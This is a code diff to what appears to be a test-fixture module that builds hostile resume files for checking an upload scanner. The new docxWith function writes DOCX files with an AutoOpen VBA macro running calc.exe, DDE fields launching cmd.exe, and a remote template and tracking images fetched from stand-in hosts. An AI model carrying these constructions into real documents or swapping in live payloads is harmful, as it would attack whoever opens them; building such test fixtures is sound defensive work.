@@ -1,9 +1,10 @@
-import { strToU8, Zip, ZipDeflate, ZipPassThrough, zlibSync } from 'fflate';
+import { strToU8, Zip, ZipDeflate, ZipPassThrough, zipSync, zlibSync } from 'fflate';
 
 /**
  * Hostile resume files built in memory: PDFs that carry scripts (in plain sight, with names
- * disguised, or packed inside a compressed object stream where no byte scan sees them), and DOCX
- * zip bombs (an honest one, and one whose headers lie about the size).
+ * disguised, or packed inside a compressed object stream where no byte scan sees them), DOCX
+ * zip bombs (an honest one, and one whose headers lie about the size), and DOCX files that run
+ * macros or fetch content from elsewhere when opened.
  */
 
 const concat = (parts: Uint8Array[]) => {
@@ -226,4 +227,97 @@ export function objectStreamBomb(unpacked: number): Uint8Array<ArrayBuffer> {
     `${' '.repeat(unpacked)}<< >>`,
   ];
   return writePdf(objects, [3]);
+}
+
+/** Where a DOCX can run a macro or fetch content from elsewhere when it is opened. */
+export type DocxThreat =
+  | 'none'
+  | 'macros'
+  | 'macros-renamed'
+  | 'remote-template'
+  | 'include-picture'
+  | 'external-image'
+  | 'dde-split'
+  | 'dde-simple';
+
+const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const xmlEsc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+const run = (text: string) => `<w:r><w:t xml:space="preserve">${xmlEsc(text)}</w:t></w:r>`;
+const fieldCode = (...pieces: string[]) =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
+    .map((p) => `<w:r><w:instrText xml:space="preserve">${p}</w:instrText></w:r>`)
+    .join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('x')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+const relationships = (rels: string[]) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${RELS}">${rels.join('')}</Relationships>`;
+
+/**
+ * A resume DOCX (the lines as paragraphs, with a hyperlink to a portfolio, which is an external
+ * relationship every résumé may have) carrying `threat`: a VBA project (named as Word names it, or
+ * moved and renamed in a .docx), a remote template, an INCLUDEPICTURE field, an image fetched from
+ * a web address, or a DDE field (split across runs, as Word may save it, or as a simple field).
+ */
+export function docxWith(threat: DocxThreat, lines: readonly string[] = RESUME_TEXT): Uint8Array<ArrayBuffer> {
+  const paragraphs = lines.map((l) => `<w:p>${run(l)}</w:p>`);
+  paragraphs.push(`<w:p><w:hyperlink r:id="rLink">${run('Portfolio')}</w:hyperlink></w:p>`);
+  const documentRels = [
+    `<Relationship Id="rLink" Type="${R}/hyperlink" Target="https://asha.example/portfolio" TargetMode="External"/>`,
+    `<Relationship Id="rSettings" Type="${R}/settings" Target="settings.xml"/>`,
+  ];
+  const files: Record<string, string> = {};
+  let settings = `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:zoom w:percent="100"/></w:settings>`;
+  let mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+  switch (threat) {
+    case 'macros':
+      mainType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+      documentRels.push(
+        `<Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
+      );
+      files['word/vbaProject.bin'] =
+        '\u00d0\u00cf\u0011\u00e0 Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub';
+      break;
+    case 'macros-renamed':
+      documentRels.push(
+        `<Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/VBAPROJECT.BIN"/>`,
+      );
+      files['word/media/VBAPROJECT.BIN'] = '\u00d0\u00cf\u0011\u00e0 Sub AutoOpen()';
+      break;
+    case 'remote-template':
+      settings = `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rTpl"/></w:settings>`;
+      files['word/_rels/settings.xml.rels'] = relationships([
+        `<Relationship Id="rTpl" Type="${R}/attachedTemplate" Target="https://templates.example/cv.dotm" TargetMode="External"/>`,
+      ]);
+      break;
+    case 'include-picture':
+      paragraphs.push(`<w:p>${fieldCode('INCLUDE', 'PICTURE  "https://tracker.example/p.png" \\d')}</w:p>`);
+      break;
+    case 'external-image':
+      documentRels.push(
+        `<Relationship Id="rImg" Type="${R}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`,
+      );
+      break;
+    case 'dde-split':
+      paragraphs.push(`<w:p>${fieldCode(' DDE', 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"')}</w:p>`);
+      break;
+    case 'dde-simple':
+      paragraphs.push(
+        `<w:p><w:fldSimple w:instr=" dde &quot;c:\\\\Windows\\\\System32\\\\cmd.exe&quot; &quot;/k calc&quot;">${run('x')}</w:fldSimple></w:p>`,
+      );
+      break;
+    case 'none':
+      break;
+  }
+  files['[Content_Types].xml'] =
+    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`;
+  files['_rels/.rels'] = relationships([
+    `<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/>`,
+  ]);
+  files['word/_rels/document.xml.rels'] = relationships(documentRels);
+  files['word/settings.xml'] = settings;
+  files['word/document.xml'] =
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${paragraphs.join('')}</w:body></w:document>`;
+  return zipSync(
+    Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text, name.endsWith('.bin'))])),
+  ) as Uint8Array<ArrayBuffer>;
 }
